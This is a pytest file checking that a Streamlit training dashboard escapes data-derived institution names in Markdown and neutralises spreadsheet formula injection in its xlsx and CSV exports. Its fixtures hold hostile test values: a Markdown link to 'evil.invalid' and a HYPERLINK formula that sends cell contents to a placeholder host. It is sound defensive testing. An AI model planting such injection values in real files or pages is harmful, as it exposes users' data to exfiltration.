"""#16 item 4: nothing from the data executes — data text on pages stays text (no live link from st.markdown), and
the page's downloads keep it as text (no formula in .xlsx, neutralised in CSV)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from extracts import LIULIN, training_row, write_extracts
from streamlit.testing.v1 import AppTest

from tracker import export, ui

DASHBOARD = str(Path(__file__).resolve().parent.parent / "dashboard.py")
LINK = "JG](http://evil.invalid)"
FORMULA = '=HYPERLINK("http://x/?q="&A1,"点此查看")'


@pytest.fixture
def app(tmp_path, monkeypatch):
    rows = [
        training_row(i, end_date="2023-06-01", institution_id=(LINK, FORMULA, "JG001")[i % 3], employed=i % 2 == 0)
        for i in range(90)
    ]
    folder = write_extracts(tmp_path / "hostile", rows, [])
    monkeypatch.setenv("SKILLS_DATA_DIR", str(folder))
    return AppTest.from_file(DASHBOARD, default_timeout=120)


def rendered_markdown(at) -> list[str]:
    """Every string Streamlit will render as Markdown: markdown, captions, subheaders, button labels, help texts."""
    texts = [e.value for e in (*at.markdown, *at.caption, *at.subheader, *at.title, *at.info, *at.warning)]
    texts += [b.label for b in at.button]
    return texts


def open_drill(app, **params):
    for key, value in params.items():
        app.query_params[key] = value
    at = app.run()
    for key, value in params.items():
        at.query_params[key] = value
    return at.switch_page("pages/drilldown.py").run()


@pytest.mark.parametrize("level,institution", [("institution", None), ("occupation", LINK), ("occupation", FORMULA)])
def test_institution_ids_render_as_text_on_the_drilldown_16(app, level, institution):
    params = {"plan": "liulin-2023", "as_of": "2023-06-30", "unit": LIULIN, "level": level}
    if institution:
        params["institution"] = institution
    at = open_drill(app, **params)
    assert not at.exception
    texts = rendered_markdown(at)
    assert not any("](http://evil.invalid)" in t for t in texts), [t for t in texts if "evil" in t]
    assert not any("http://" in t and "evil" in t for t in texts)
    if institution:
        assert any(ui.md_escape(institution) in t for t in texts), "the institution is named, escaped"


def test_markdown_escape_shows_data_as_typed():
    escaped = ui.md_escape(LINK)
    assert "](" not in escaped and "http://" not in escaped
    assert escaped.replace("\\", "") == LINK
    assert ui.md_escape(":red[x] **b** <b>").replace("\\", "") == ":red[x] **b** <b>"


def test_every_writer_keeps_data_text_as_text_16():
    frame = pd.DataFrame({"培训机构": [LINK, FORMULA, "@cmd", "+1", "-1"], "结业人数": [1, 2, 3, 4, 5]})
    cells = [c for row in openpyxl.load_workbook(io.BytesIO(export.to_xlsx(frame))).active.iter_rows() for c in row]
    hostile = [c for c in cells if c.value in set(frame["培训机构"])]
    assert len(hostile) == 5 and all(c.data_type == "s" for c in hostile)
    rows = list(csv.reader(io.StringIO(export.to_csv(frame).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == [LINK, "'" + FORMULA, "'@cmd", "'+1", "'-1"]
